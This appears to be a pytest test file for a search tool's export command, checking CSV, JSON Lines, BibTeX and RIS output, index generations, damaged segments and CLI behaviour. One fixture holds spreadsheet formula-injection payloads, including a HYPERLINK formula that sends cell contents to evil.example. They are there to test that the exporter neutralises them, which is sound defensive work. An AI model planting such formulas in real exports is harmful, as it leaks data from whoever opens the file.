"""Export: all results of a search, from one generation, in formats that other programs read."""

import csv
import json
import os
import subprocess
import sys

import pytest
from click.testing import CliRunner

from search import BYTE_ORDER_MARK, Engine, ExportFormat, IndexUnusable, SearchRequest, Sort, export_lines
from search.cli import main
from search.exporting import COLUMNS
from search.indexing import update_index
from search.local import LocalEngine
from search.roots import Root
from search.synonyms import Synonyms
from tests.suites.articles import article, ids, moon_articles, tasks, to_stored
from tests.suites.export_contract import ExportContract
from tests.suites.memory_engine import MemoryEngine

ROOTS = (Root(path="/a"),)


@pytest.fixture(scope="module")
def path(tmp_path_factory):
    """An index of two segments, in one of which an article is deleted."""
    found = tmp_path_factory.mktemp("export") / "index"
    first, *others = moon_articles()
    update_index(found, tasks(article(1, "An older text."), *others[:3]), roots=ROOTS)
    update_index(found, tasks(first, *others[3:]), roots=ROOTS)
    return found


class TestLocalExport(ExportContract):
    @pytest.fixture(scope="class")
    @classmethod
    def engine(cls, path) -> Engine:
        return LocalEngine(path)


class TestMemoryExport(ExportContract):
    @pytest.fixture(scope="class")
    @classmethod
    def engine(cls) -> Engine:
        return MemoryEngine(map(to_stored, moon_articles()))


def test_an_export_keeps_its_generation_while_another_is_published_and_the_old_one_swept_away(tmp_path):
    path = tmp_path / "index"
    update_index(path, tasks(*moon_articles()[:3]), roots=ROOTS)
    engine = LocalEngine(path)
    export = engine.export(SearchRequest(sort=Sort.OLDEST))
    first = next(export.articles)
    for number in (7, 8, 9):
        update_index(path, tasks(article(number)), roots=ROOTS)
    assert engine.search(SearchRequest(limit=0)).total == 6
    assert ids([first, *export.articles]) == [1, 2, 3]


def test_a_damaged_file_ends_an_export_with_a_sentence(tmp_path):
    path = tmp_path / "index"
    update_index(path, tasks(*(article(n, f"words {n} " * 2_000) for n in range(20))), roots=ROOTS)
    export = LocalEngine(path).export(SearchRequest())
    (segment,) = (path / "generations").rglob("*.seg")
    size = segment.stat().st_size
    with segment.open("r+b") as file:
        data = file.read()
        at = data.rindex(b"\x28\xb5\x2f\xfd")  # the last block of stored articles
        file.seek(at + 8)
        file.write(bytes(min(64, size - at - 8)))
    with pytest.raises(IndexUnusable, match="damaged"):
        list(export.articles)


def test_the_state_changes_with_the_index_and_with_the_files_of_synonyms(tmp_path):
    path, words = tmp_path / "index", tmp_path / "synonyms.txt"
    words.write_text("car, automobile\n")
    update_index(path, tasks(*moon_articles()[:2]), roots=ROOTS)
    engine = LocalEngine(path, synonyms=Synonyms(str(words), gazetteer=False))
    states = [engine.state()]
    words.write_text("car, automobile, motor car\n")
    states.append(engine.state())
    update_index(path, tasks(moon_articles()[2]), roots=ROOTS)
    states.append(engine.state())
    assert len({state.tag for state in states}) == 3
    assert states[2].updated >= states[0].updated


HOSTILE = to_stored(
    article(
        11,
        "First line.\nSecond \"line\", with a comma; and 'quotes'.",
        title='=HYPERLINK("http://evil.example?"&A1,"Click")',
        authors=("+49 30 1234", "O'Neill, Ada"),
        source="@SUM(1+1)",
        url="-2+3",
        tags=("\tcmd", "ok"),
    )
)


def rows(articles, **options):
    return list(csv.reader("".join(export_lines(articles, ExportFormat.CSV, **options)).splitlines(keepends=True)))


def test_csv_is_read_back_with_its_line_breaks_quotes_and_commas():
    header, row = rows([HOSTILE], text=True, link=lambda found: f"https://archive.example/{found.id}")
    assert header == [*COLUMNS, "text"]
    found = dict(zip(header, row, strict=True))
    assert found["text"] == HOSTILE.text
    assert found["id"] == HOSTILE.id
    assert found["permalink"] == f"https://archive.example/{HOSTILE.id}"
    assert "".join(export_lines([HOSTILE], ExportFormat.CSV)).count("\r\n") == 2


def test_no_cell_of_a_csv_is_a_formula():
    _, row = rows([HOSTILE], text=True)
    assert not [cell for cell in row if cell.startswith(tuple("=+-@\t\r\n"))]
    assert row[COLUMNS.index("title")] == f"'{HOSTILE.title}"


def test_json_lines_have_every_field_as_it_is():
    (line,) = export_lines([HOSTILE], ExportFormat.JSONL)
    found = json.loads(line)
    assert line.endswith("\n")
    assert (found["title"], found["authors"]) == (HOSTILE.title, list(HOSTILE.authors))
    assert set(found) == set(HOSTILE.__dataclass_fields__)


def test_bibtex_and_ris_have_a_record_an_article():
    articles = [to_stored(found) for found in moon_articles()]
    assert "".join(export_lines(articles, ExportFormat.BIBTEX)).count("\n@") == 5
    assert "".join(export_lines(articles, ExportFormat.RIS)).count("ER  - ") == 6


def run(path, *words, status=0):
    found = CliRunner().invoke(main, ["export", "--index", str(path), *words])
    assert found.exit_code == status, found.output
    return found


def test_the_command_exports_what_the_words_find(path):
    found = run(path, "moon", "--source", "The Courier", "--format", "jsonl", "--sort", "oldest")
    assert [int(json.loads(line)["id"], 16) for line in found.stdout.splitlines()] == [1, 2]
    assert "2 articles" in found.stderr


def test_the_command_exports_everything_where_nothing_is_asked_or_all_is(path):
    assert len(run(path, "--format", "jsonl").stdout.splitlines()) == 6
    assert len(run(path, "--all", "--format", "jsonl").stdout.splitlines()) == 6


def test_all_and_words_exclude_each_other(path):
    assert "--all" in run(path, "--all", "moon", status=2).stderr


def test_the_command_writes_a_file_whole_or_not_at_all(path, tmp_path):
    out = tmp_path / "found.csv"
    run(path, "moon", "-o", str(out))
    assert out.read_bytes().decode("utf-8").startswith("id,title,")
    assert len(rows_of(out)) == 5
    out.write_text("precious")
    run(path, "moon", "-o", str(tmp_path / "absent" / "found.csv"), status=3)
    run(path, "moon", "--strict", '"', "-o", str(out), status=2)
    assert out.read_text() == "precious"
    assert [file.name for file in tmp_path.iterdir()] == ["found.csv"]


def rows_of(file):
    with file.open(encoding="utf-8", newline="") as stream:
        return list(csv.reader(stream))


def test_the_ending_of_a_file_says_its_format(path, tmp_path):
    out = tmp_path / "found.bib"
    run(path, "moon", "-o", str(out))
    assert out.read_text().startswith("@article{")


def test_finding_nothing_exports_nothing_and_says_so(path):
    found = run(path, "zeppelin", "--format", "jsonl", status=1)
    assert (found.stdout, found.stderr) == ("", "Nothing found.\n")


def test_excel_is_given_the_mark_of_utf8_where_that_is_asked_for(path):
    assert run(path, "moon", "--bom").stdout.startswith(BYTE_ORDER_MARK)
    assert not run(path, "moon").stdout.startswith(BYTE_ORDER_MARK)


def test_an_export_can_be_indexed_again(path, tmp_path):
    out, copy = tmp_path / "all.jsonl", tmp_path / "copy"
    run(path, "--all", "-o", str(out))
    indexed = CliRunner().invoke(main, ["index", "--index", str(copy), "--jobs", "1", str(out)])
    assert indexed.exit_code == 0, indexed.output
    again = {found.title: found for found in LocalEngine(copy).export(SearchRequest()).articles}
    for found in LocalEngine(path).export(SearchRequest()).articles:
        other = again[found.title]
        assert (other.text, other.authors, other.published, other.source) == (
            found.text,
            found.authors,
            found.published,
            found.source,
        )


def test_a_reader_that_has_had_enough_ends_the_command(path):
    command = [sys.executable, "-c", "from search.cli import main; main()", "export", "--index", str(path)]
    with subprocess.Popen(command, stdout=subprocess.PIPE, stderr=subprocess.PIPE, env=os.environ) as process:
        process.stdout.close()
        complaint = process.stderr.read().decode()
        process.wait()
    assert "Traceback" not in complaint
